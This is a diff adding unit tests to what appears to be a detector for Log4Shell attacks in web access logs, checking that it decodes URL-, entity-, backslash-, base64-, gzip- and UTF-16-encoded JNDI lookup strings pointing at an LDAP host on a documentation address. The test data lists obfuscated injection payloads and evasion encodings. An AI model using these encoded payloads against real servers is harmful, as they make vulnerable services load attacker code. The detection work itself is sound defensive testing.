@@ -124,6 +124,42 @@ class Verdicts(Case):
         self.assertEqual((s["from"], s["to"]), ("2021-12-13T13:40:03.000Z",) * 2)
 
 
+DECODERS = [  # how it is written, the decoders that are named
+    (urllib.parse.quote(PAYLOAD, safe=""), ["url"]),
+    ("%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%3A1389%2Fa%7D+and+more", ["url"]),
+    ("".join("%%u%04x" % ord(c) for c in PAYLOAD), ["url"]),
+    (urllib.parse.quote(urllib.parse.quote(PAYLOAD, safe=""), safe=""), ["url", "url"]),
+    ("".join("\\u%04x" % ord(c) for c in PAYLOAD), ["backslash"]),
+    ("".join("\\x%02x" % ord(c) for c in PAYLOAD), ["backslash"]),
+    ("".join("\\%03o" % ord(c) for c in PAYLOAD), ["backslash"]),
+    ("".join("&#%d;" % ord(c) for c in PAYLOAD), ["entity"]),
+    ("".join("&#x%x" % ord(c) for c in PAYLOAD), ["entity"]),
+    ("&dollar&lbracejndi&colonldap://203.0.113.9&colon1389/a&rbrace", ["entity"]),
+    ("$\\{jndi:ldap:\\/\\/203.0.113.9:1389\\/a\\}", ["backslash"]),
+    *((base64.b64encode(b"xyz"[:n] + PAYLOAD.encode()).decode(), ["base64"]) for n in range(4)),
+    *((base64.urlsafe_b64encode(b"?>?"[:n] + PAYLOAD.encode()).decode().rstrip("="), ["base64"]) for n in range(4)),
+    *((base64.b64encode(b"xyz"[:n] + gzip.compress(PAYLOAD.encode())).decode(), ["base64"]) for n in range(4)),
+    *((base64.urlsafe_b64encode(b"xyz"[:n] + gzip.compress(PAYLOAD.encode())).decode(), ["base64"]) for n in range(4)),
+    (base64.b64encode(urllib.parse.quote(PAYLOAD, safe="").encode()).decode(), ["base64", "url"]),
+    (urllib.parse.quote(base64.b64encode(b"ab" + PAYLOAD.encode()).decode(), safe=""), ["base64"]),
+    (PAYLOAD.encode("utf-16-le").decode(), ["utf-16"]),
+    (PAYLOAD.encode("utf-16-be").decode(), ["utf-16"]),
+]
+
+
+class Decoders(Case):
+    def test_alone(self):
+        for text, chain in DECODERS:
+            for line in (text, access(path="/?q=" + text), access(text), json.dumps({"q": "-"})[:-2] + text + '"}'):
+                row = self.one(line, verdict="reaches", resolves_to="ldap://203.0.113.9:1389/a")
+                if line is text:
+                    self.assertEqual(row["decoded"], chain, text)
+
+    def test_a_plus_is_a_space_in_a_form(self):
+        self.one(access(path="/s?q=%24%7Bjndi:ldap://h/a+b%2Bc%7D"), resolves_to="ldap://h/a b+c")
+        self.one(access(path="/%24%7Bjndi:ldap://h/a+b%2Bc%7D"), resolves_to="ldap://h/a+b+c")
+
+
 FORMATS = [  # line, format, time (UTC) or None, client or None, field
     (access(PAYLOAD), "combined", "2021-12-13T13:40:03.000Z", "198.51.100.23", "User-Agent"),
     ("www.h.example:443 198.51.100.23 - u [13/Dec/2021:22:40:03 +0900] \"GET /?a=" + PAYLOAD + " HTTP/1.1\" 200 5 \"-\" \"c\"",
